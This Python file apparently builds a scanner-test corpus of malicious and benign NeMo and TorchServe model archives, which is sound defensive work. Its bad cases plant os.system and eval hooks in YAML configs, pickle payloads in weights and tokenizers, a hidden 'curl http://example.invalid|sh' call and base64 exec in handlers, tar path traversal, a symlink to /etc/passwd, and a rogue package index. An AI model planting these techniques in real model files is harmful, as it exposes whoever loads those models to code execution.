"""NeMo and TorchServe packages: configuration and code inside archives."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator

from bench.corpus.families.torch import RUN, state_dict, zipped
from bench.corpus.unit import COMMAND, HOST, Family, Unit
from bench.corpus.writers import binaries, tars, zips
from bench.corpus.writers import opcodes as op
from bench.corpus.writers.tars import Entry

NEMO = Family("nemo", "NeMo restore_from")


MAR = Family("torchserve", "TorchServe")


EVIL = op.pickle4(op.call(op.stacked("os", "system"), op.text(COMMAND)))


HONEST_YAML = """sample_rate: 16000
train_ds:
  manifest_filepath: /data/train.json
  batch_size: 16
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  features: 80
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  n_layers: 17
optim:
  name: adamw
  lr: 0.001
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.21.0
"""


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _nemo(rng)
    yield from _mar(rng)


def _nemo(rng: random.Random) -> Iterator[Unit]:
    weights = zipped(rng, state_dict(), "model_weights")

    def pack(config: str, checkpoint: bytes = weights, **more: bytes) -> bytes:
        files = {"./model_config.yaml": config.encode(), "./model_weights.ckpt": checkpoint}
        return tars.pack(
            files | {f"./{name.replace('__', '.')}": body for name, body in more.items()}
        )

    def bad(technique: str, variant: str, body: bytes) -> Unit:
        return NEMO.bad(technique, variant, {"model.nemo": body})

    system = HONEST_YAML + f"hook:\n  _target_: os.system\n  command: {COMMAND}\n"
    yield bad("target", "os-system", pack(system))
    yield bad(
        "target",
        "gzip",
        tars.gz(
            pack(
                HONEST_YAML.replace(
                    "nemo.collections.asr.modules.ConformerEncoder", "subprocess.run"
                )
                + "\n"
            )
        ),
    )
    yield bad(
        "target",
        "eval",
        pack(
            "loss:\n  _target_: builtins.eval\n  _args_: [\"__import__('os').system('true')\"]\n"
            + HONEST_YAML
        ),
    )
    yield bad(
        "yaml-tag",
        "apply",
        pack(HONEST_YAML + f"x: !!python/object/apply:os.system ['{COMMAND}']\n"),
    )
    yield bad(
        "checkpoint-pickle",
        "weights",
        pack(HONEST_YAML, zipped(rng, state_dict(op.long_text("x") + RUN), "model_weights")),
    )
    yield bad("checkpoint-pickle", "tokenizer", pack(HONEST_YAML, tokenizer__pkl=EVIL))
    slip = tars.archive(
        [
            Entry("./model_config.yaml", HONEST_YAML.encode()),
            Entry("../../../tmp/corpus-marker", b"x"),
        ]
    )
    yield bad("slip", "parent", slip)
    link = tars.archive(
        [
            Entry("./model_weights.ckpt", kind=b"2", target="/etc/passwd"),
            Entry("./model_config.yaml", HONEST_YAML.encode()),
        ]
    )
    yield bad("slip", "link", link)
    yield bad("native", "so", pack(HONEST_YAML, libops__so=binaries.elf(b"x")))
    yield NEMO.good("model", "tar", {"model.nemo": pack(HONEST_YAML)})
    yield NEMO.good("model", "gzip", {"model.nemo": tars.gz(pack(HONEST_YAML))})
    yield NEMO.good(
        "model",
        "tokenizer",
        {
            "model.nemo": pack(
                HONEST_YAML,
                vocab__txt=b"a\nb\n",
                tokenizer__model=b"\x0a\x0e\x0a\x05<unk>\x15\0\0\0\0\x18\x02",
            )
        },
    )
    optim = "optim:\n  _target_: torch.optim.AdamW\n  lr: 0.1\nsched:\n  _target_: nemo.core.optim.lr_scheduler.CosineAnnealing\n"
    yield NEMO.good(
        "model",
        "targets",
        {"model.nemo": pack(HONEST_YAML.replace("optim:\n  name: adamw\n  lr: 0.001\n", optim))},
    )


HANDLER = """import torch
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def preprocess(self, data):
        return torch.tensor([row["body"] for row in data])

    def postprocess(self, output):
        return output.tolist()
"""


def _mar(rng: random.Random) -> Iterator[Unit]:
    weights = zipped(rng, state_dict())

    def pack(handler: str, entry: str = "handler.py", **more: bytes) -> dict[str, bytes]:
        manifest = {
            "createdOn": "01/02/2024",
            "runtime": "python",
            "archiverVersion": "0.9.0",
            "model": {
                "modelName": "m",
                "serializedFile": "model.pt",
                "handler": entry,
                "modelVersion": "1.0",
            },
        }
        files = {
            "model.pt": weights,
            "handler.py": handler.encode(),
            "MAR-INF/MANIFEST.json": json.dumps(manifest).encode(),
        }
        return files | {name.replace("__", "."): body for name, body in more.items()}

    def bad(technique: str, variant: str, files: dict[str, bytes], form: str = "zip") -> Unit:
        body = zips.pack(files, zips.DEFLATED) if form == "zip" else tars.gz(tars.pack(files))
        return MAR.bad(
            technique,
            variant,
            {"model.mar" if form == "zip" else "model.tar.gz": body},
            payload="runs when the model is served",
        )

    yield bad("handler", "os-system", pack(f"import os\nos.system('{COMMAND}')\n" + HANDLER))
    hidden = HANDLER.replace(
        "        return output.tolist()",
        "        __import__('subprocess').Popen(['sh', '-c', 'curl http://example.invalid|sh'])\n        return output.tolist()",
    )
    yield bad("handler", "in-method", pack(hidden))
    coded = (
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgndHJ1ZScp'))\n" + HANDLER
    )
    yield bad("handler", "base64", pack(coded))
    yield bad("handler", "traversal", pack(HANDLER, "../../../../tmp/evil.py:run"))
    yield bad("handler", "tgz", pack(f"import os\nos.popen('{COMMAND}')\n" + HANDLER), "tgz")
    yield bad("pickle", "weights", {**pack(HANDLER), "model.pt": zipped(rng, RUN)})
    yield bad("pickle", "extra", pack(HANDLER, index_to_name__pkl=EVIL))
    yield bad(
        "requirements",
        "index",
        pack(HANDLER, requirements__txt=f"--index-url http://{HOST}/simple\nfoo\n".encode()),
    )
    yield bad("slip", "member", {**pack(HANDLER), "../../corpus-marker": b"x"})
    yield MAR.good("archive", "own-handler", {"model.mar": zips.pack(pack(HANDLER), zips.DEFLATED)})
    yield MAR.good(
        "archive",
        "named-handler",
        {
            "model.mar": zips.pack(
                pack("", "image_classifier", index_to_name__json=b'{"0": "cat"}'), zips.DEFLATED
            )
        },
    )
    yield MAR.good(
        "archive",
        "requirements",
        {"model.mar": zips.pack(pack(HANDLER, requirements__txt=b"transformers==4.40\n"))},
    )
    yield MAR.good("archive", "tgz", {"model.tar.gz": tars.gz(tars.pack(pack(HANDLER)))})
